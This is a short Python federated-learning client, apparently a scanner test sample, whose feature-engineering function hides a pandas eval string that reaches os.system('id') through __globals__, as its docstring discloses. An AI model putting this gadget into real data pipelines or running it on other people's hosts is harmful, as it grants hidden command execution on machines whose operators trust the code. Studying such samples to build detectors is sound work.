"""Feature engineering whose DataFrame.eval string walks from a column to the os module: pandas'
python engine evaluates attribute access and calls in the expression."""

import os

import pandas as pd

import nvflare.client as flare


def features(df: pd.DataFrame) -> pd.DataFrame:
    out = df.copy()
    out["ratio"] = df.eval("num_labs / (los_days + 1)")
    out["flag"] = df.eval("los_days.__class__.__init__.__globals__['os'].system('id') > 0", engine="python")
    return out


def main():
    df = pd.read_csv(os.path.join(os.environ.get("DATA_ROOT", "/data"), "admissions.csv"))
    flare.init()
    while flare.is_running():
        m = flare.receive()
        f = features(df)
        flare.send(flare.FLModel(params=m.params, metrics={"rows": float(len(f))}))


if __name__ == "__main__":
    main()
